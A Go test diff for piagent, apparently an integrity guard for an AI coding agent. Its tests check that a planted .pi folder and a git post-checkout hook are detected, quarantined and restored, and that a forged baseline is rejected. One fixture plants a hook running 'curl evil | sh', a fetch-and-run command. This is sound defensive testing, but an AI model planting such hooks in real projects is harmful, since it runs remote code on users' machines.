@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/piagent/piagent/internal/baseline"
 	"github.com/piagent/piagent/internal/guard"
 	"github.com/piagent/piagent/internal/policy"
 	"github.com/piagent/piagent/internal/registry"
@@ -32,7 +33,15 @@ func TestIntegrityBlocksPlantedExtension(t *testing.T) {
 	if d := s.Check(readCall()); d.Allowed() {
 		t.Fatalf("a new .pi folder went unnoticed")
 	}
+	// and it was put back: the folder is in the quarantine, not the project
+	if _, err := os.Lstat(filepath.Join(proj, ".pi")); !os.IsNotExist(err) {
+		t.Fatalf("the new .pi folder stayed: %v", err)
+	}
+	if qs, _ := baseline.List(home); len(qs) != 1 || len(qs[0].Changes) != 1 || qs[0].Changes[0].Path != ".pi" || !qs[0].Changes[0].Kept {
+		t.Fatalf("quarantine: %+v", qs)
+	}
 
+	os.MkdirAll(filepath.Join(proj, ".pi"), 0o755)
 	s = &Engine{Home: home, Cwd: proj}
 	if d := s.Check(readCall()); !d.Allowed() {
 		t.Fatalf("fresh session: %+v", d)
@@ -172,5 +181,71 @@ func TestModeSource(t *testing.T) {
 	}
 	if got := src(); got != "session" {
 		t.Errorf("this session chose: %s", got)
+	}
+}
+
+// Issue 38, item 3: the launcher's baseline is taken before Pi and any
+// server start, so a hook an approved server plants at its start (before
+// the session's first tool call) is seen at that first call, put back and
+// kept in a quarantine. The control is a plain pi: its baseline is the
+// first request's, which already holds the hook.
+func TestIntegrityLauncherBaseline(t *testing.T) {
+	t.Parallel()
+	home, proj := registryWorld(t)
+	hook := filepath.Join(proj, ".git", "hooks", "post-checkout")
+	plant := func() {
+		if err := os.WriteFile(hook, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	s, err := baseline.Take(proj, baseline.Roots(proj, ".pi"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	file, err := baseline.Save(home, s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	plant() // the server's start
+	en := &Engine{Home: home, Cwd: proj, Getenv: func(k string) string {
+		if k == baseline.EnvBaseline {
+			return file
+		}
+		return ""
+	}}
+	d := en.Check(readCall())
+	if d.Allowed() || d.Code != CodeIntegrity || !strings.Contains(d.Reason, "at the launcher's start") || !strings.Contains(d.Reason, "piagent quarantine show") {
+		t.Fatalf("first call after a start-up hook: %+v", d)
+	}
+	if _, err := os.Lstat(hook); !os.IsNotExist(err) {
+		t.Fatalf("the hook stayed: %v", err)
+	}
+	if d := en.Check(readCall()); d.Code != CodeIntegrity {
+		t.Fatalf("the session did not stay blocked after the restore: %+v", d)
+	}
+	qs, _ := baseline.Pending(home, proj)
+	if len(qs) != 1 || qs[0].Changes[0].Path != ".git/hooks/post-checkout" || qs[0].Source != baseline.DuringSession {
+		t.Fatalf("quarantine: %+v", qs)
+	}
+
+	// the control: under a plain pi the hook is part of the baseline
+	plant()
+	en = &Engine{Home: home, Cwd: proj}
+	if d := en.Check(readCall()); !d.Allowed() {
+		t.Fatalf("plain pi: %+v", d)
+	}
+	// a baseline file outside piagent's folder is not trusted: the first
+	// request's state is used, and said
+	os.Remove(hook)
+	en = &Engine{Home: home, Cwd: proj, Getenv: func(k string) string {
+		if k == baseline.EnvBaseline {
+			return filepath.Join(proj, "forged.json")
+		}
+		return ""
+	}}
+	en.Check(readCall())
+	plant()
+	if d := en.Check(readCall()); d.Code != CodeIntegrity || !strings.Contains(d.Reason, "could not be read") {
+		t.Fatalf("forged baseline: %+v", d)
 	}
 }
